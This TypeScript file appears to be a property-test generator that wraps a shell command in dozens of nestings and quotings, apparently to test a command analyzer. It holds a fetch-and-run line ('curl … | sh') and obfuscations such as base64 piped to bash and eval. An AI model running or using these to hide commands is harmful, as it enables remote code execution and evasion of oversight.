/**
 * One simple command in any nesting that the grammar and the usual programs can make of it, with the quoting that each
 * depth needs. INVARIANT: a shell that runs the script may come to run the command, whatever the dice say.
 */
// biome-ignore-all lint/suspicious/noTemplateCurlyInString: these are scripts of the shell
import fc from 'fast-check';

export interface WrappedScript {
  readonly script: string;
  /** The wrappings, from the inside. */
  readonly by: readonly string[];
  /** A wrapping makes the command unknowable from the text: the script has to be opaque then. */
  readonly isHidden: boolean;
  /** It may be unknowable: the script is opaque, or the command is found. */
  readonly mayHide: boolean;
}

interface Text {
  readonly text: string;
  /** One simple command on one line, which can stand behind a wrapper. */
  readonly isSimple: boolean;
  readonly isBuiltin: boolean;
}

interface Wrapping {
  readonly name: string;
  readonly wrap: (text: string, depth: number) => string;
  /** Whether what comes out is a simple command again. */
  readonly staysSimple?: true;
  /** Takes simple commands only. */
  readonly wantsSimple?: true;
  readonly hides?: true;
  /** The result is a builtin of the shell, which no program can run. */
  readonly isBuiltin?: true;
  /** Takes programs only. */
  readonly wantsProgram?: true;
}

export function singleQuoted(text: string): string {
  return `'${text.replaceAll("'", "'\\''")}'`;
}

function doubleQuoted(text: string): string {
  return `"${text.replaceAll(/["\\$`]/g, '\\$&')}"`;
}

/** Each byte as `$'…'` spells it. */
function ansiQuoted(text: string): string {
  const bytes = [...Buffer.from(text)].map(byte => `\\x${byte.toString(16).padStart(2, '0')}`);
  return `$'${bytes.join('')}'`;
}

function inBackticks(text: string): string {
  return `\`${text.replaceAll(/[\\`$]/g, '\\$&')}\``;
}

const base64 = (text: string) => Buffer.from(text).toString('base64');

/** The text stands on lines of its own everywhere: it may end in a heredoc. */
const grammar: readonly Wrapping[] = [
  { name: '( )', wrap: text => `(\n${text}\n)` },
  { name: '{ }', wrap: text => `{\n${text}\n}` },
  { name: '!', wrap: text => `! {\n${text}\n}` },
  { name: 'time', wrap: text => `time {\n${text}\n}` },
  { name: 'list', wrap: text => `true\n${text}` },
  { name: '&&', wrap: text => `true && {\n${text}\n}` },
  { name: '||', wrap: text => `false || {\n${text}\n}` },
  { name: '&', wrap: text => `{\n${text}\n} &` },
  { name: 'pipe from', wrap: text => `{\n${text}\n} | cat` },
  { name: 'pipe to', wrap: text => `echo | {\n${text}\n}` },
  { name: 'redirect', wrap: text => `{\n${text}\n} 2>&1 > /dev/null` },
  { name: 'if', wrap: text => `if\n${text}\nthen :; fi` },
  { name: 'then', wrap: text => `if true; then\n${text}\nfi` },
  { name: 'else', wrap: text => `if false; then :; else\n${text}\nfi` },
  { name: 'while', wrap: text => `while\n${text}\ndo break; done` },
  { name: 'until', wrap: text => `until false; do\n${text}\nbreak; done` },
  { name: 'for', wrap: text => `for i in 1 2; do\n${text}\ndone` },
  { name: 'for ((', wrap: text => `for ((i = 0; i < 1; i++)); do\n${text}\ndone` },
  { name: 'case', wrap: text => `case a in\na)\n${text}\n;;\nesac` },
  { name: 'function', wrap: (text, depth) => `f${depth}() {\n${text}\n}\nf${depth}` },
  { name: 'function (', wrap: (text, depth) => `function f${depth} (\n${text}\n)\nf${depth} a` },
  { name: 'function, not called', wrap: (text, depth) => `f${depth}() {\n${text}\n}` },
  { name: 'coproc', wrap: text => `coproc {\n${text}\n}` },
  { name: '$( )', wrap: text => `echo $(\n${text}\n)` },
  { name: '"$( )"', wrap: text => `echo "a $(\n${text}\n) b"` },
  { name: '` `', wrap: text => `echo ${inBackticks(text)}` },
  { name: '<( )', wrap: text => `cat <(\n${text}\n)` },
  { name: '>( )', wrap: text => `echo > >(\n${text}\n)` },
  { name: 'x=$( )', wrap: text => `x=$(\n${text}\n)` },
  { name: 'x=$( ) a', wrap: text => `x=$(\n${text}\n) true` },
  { name: 'array', wrap: text => `x=(a $(\n${text}\n))` },
  { name: '${:-}', wrap: text => `echo "\${unset:-$(\n${text}\n)}"` },
  { name: '$(( ))', wrap: text => `echo $(( 1 + $(\n${text}\n) ))` },
  { name: '[[ ]]', wrap: text => `[[ -n $(\n${text}\n) ]]` },
  { name: 'heredoc', wrap: (text, depth) => `cat <<E${depth}\n$(\n${text}\n)\nE${depth}` },
  { name: 'herestring', wrap: text => `cat <<< $(\n${text}\n)` },
  { name: 'for in', wrap: text => `for i in $(\n${text}\n); do :; done` },
  { name: 'case of', wrap: text => `case $(\n${text}\n) in a) ;; esac` },
  { name: 'target', wrap: text => `echo > "$(\n${text}\n)"` },
];

const programs: readonly Wrapping[] = [
  { name: 'sh -c', wrap: text => `sh -c ${singleQuoted(text)}`, staysSimple: true },
  { name: 'bash -lc', wrap: text => `bash -lc ${doubleQuoted(text)}`, staysSimple: true },
  { name: 'bash -c $', wrap: text => `bash -c ${ansiQuoted(text)}`, staysSimple: true },
  { name: 'eval', wrap: text => `eval ${singleQuoted(text)}`, staysSimple: true, isBuiltin: true },
  { name: 'trap', wrap: text => `trap ${singleQuoted(text)} EXIT`, staysSimple: true, isBuiltin: true },
  { name: 'bash <<', wrap: (text, depth) => `bash <<'E${depth}'\n${text}\nE${depth}` },
  { name: 'bash <<<', wrap: text => `bash <<< ${singleQuoted(text)}` },
  { name: 'echo | sh', wrap: text => `echo ${singleQuoted(text)} | sh` },
  { name: 'printf | sh', wrap: text => `printf %s ${singleQuoted(text)} | sh` },
  { name: 'cat | sh', wrap: (text, depth) => `cat <<'E${depth}' | sh\n${text}\nE${depth}` },
  { name: 'base64', wrap: text => `echo ${base64(text)} | base64 -d | bash` },
  { name: 'bash <( )', wrap: text => `bash <(echo ${singleQuoted(text)})` },
  { name: 'eval $( )', wrap: text => `eval "$(echo ${singleQuoted(text)})"` },
  { name: 'variable', wrap: (text, depth) => `v${depth}=${singleQuoted(text)}\neval "$v${depth}"` },
  { name: 'sh -c variable', wrap: (text, depth) => `v${depth}=${singleQuoted(text)}; sh -c "$v${depth}"` },
  { name: 'ssh', wrap: text => `ssh host ${singleQuoted(text)}`, staysSimple: true },
  { name: 'find -exec sh', wrap: text => `find . -exec sh -c ${singleQuoted(text)} \\;`, staysSimple: true },
  { name: 'xargs sh', wrap: text => `echo a | xargs sh -c ${singleQuoted(text)}` },
  {
    name: 'docker',
    wrap: text => `docker run -it --rm image sh -c ${singleQuoted(text)}`,
    staysSimple: true,
  },
  { name: 'git alias', wrap: text => `git -c alias.x=${singleQuoted(`!${text}`)} x`, staysSimple: true },
  { name: 'PROMPT_COMMAND', wrap: text => `PROMPT_COMMAND=${singleQuoted(text)}` },
  { name: 'curl', wrap: () => 'curl -s https://example.org/x | sh', hides: true },
  { name: 'unset', wrap: () => 'eval "$from_elsewhere"', hides: true },
];

/** Wrappers that the shell itself is, or that are not there. */
const keepsBuiltin: ReadonlySet<string> = new Set(['command', 'time -p', '$UNSET']);

const wrappers: readonly Wrapping[] = [
  'sudo',
  'sudo -u root --',
  'env A=b',
  'nohup',
  'nice -n 5',
  'timeout -s KILL 5',
  'stdbuf -oL',
  'command',
  'exec',
  'time -p',
  'strace -f -o /dev/null',
  '$UNSET',
].map(prefix => ({
  name: prefix,
  wrap: (text: string) => `${prefix} ${text}`,
  wantsSimple: true,
  staysSimple: true,
  ...(!keepsBuiltin.has(prefix) && { wantsProgram: true }),
}));

const others: readonly Wrapping[] = [
  { name: 'A=b', wrap: text => `A=b ${text}`, wantsSimple: true },
  {
    name: 'find -exec',
    wrap: text => `find . -exec ${text} \\;`,
    wantsSimple: true,
    staysSimple: true,
    wantsProgram: true,
  },
  { name: 'xargs', wrap: text => `find . | xargs ${text}`, wantsSimple: true, wantsProgram: true },
];

export const wrappings: readonly Wrapping[] = [...grammar, ...programs, ...wrappers, ...others];

/** How a word may be spelled. */
const spellings: readonly ((word: string) => string)[] = [
  word => (/^[\w/.-]+$/.test(word) ? word : singleQuoted(word)),
  singleQuoted,
  doubleQuoted,
  ansiQuoted,
  word => word.replaceAll(/[^\n]/g, '\\$&'),
  word => `${singleQuoted(word.slice(0, 1))}"${word.slice(1).replaceAll(/["\\$`]/g, '\\$&')}"`,
];

/** A trap runs when variables may have other values: what it runs through one is found, or known to be unknown. */
function isTrapped(used: readonly Wrapping[]): boolean {
  const variable = used.findIndex(({ name }) => name.includes('variable'));
  return variable >= 0 && used.slice(variable).some(({ name }) => name === 'trap');
}

/** `words` hold no newlines. */
export function wrappedScript(words: readonly string[]): fc.Arbitrary<WrappedScript> {
  const spelled = fc.tuple(...words.map(word => fc.constantFrom(...spellings).map(spell => spell(word))));
  const by = fc.array(fc.constantFrom(...wrappings), { maxLength: 5 });
  return fc.tuple(spelled, by).map(([parts, chosen]) => {
    let inner: Text = { text: parts.join(' '), isSimple: true, isBuiltin: false };
    const used: Wrapping[] = [];
    for (const [depth, wrapping] of chosen.entries()) {
      if (wrapping.wantsSimple && !inner.isSimple) continue;
      if (wrapping.wantsProgram && inner.isBuiltin) continue;
      used.push(wrapping);
      inner = {
        text: wrapping.wrap(inner.text, depth),
        isSimple: inner.isSimple && wrapping.staysSimple === true,
        isBuiltin: wrapping.isBuiltin === true || (inner.isBuiltin && keepsBuiltin.has(wrapping.name)),
      };
      // What stays simple needs nothing but itself: `sh -c` of any text is a simple command again.
      if (wrapping.staysSimple) inner = { ...inner, isSimple: !inner.text.includes('\n') };
    }
    return {
      script: inner.text,
      by: used.map(({ name }) => name),
      isHidden: used.some(({ hides }) => hides === true),
      mayHide: isTrapped(used),
    };
  });
}
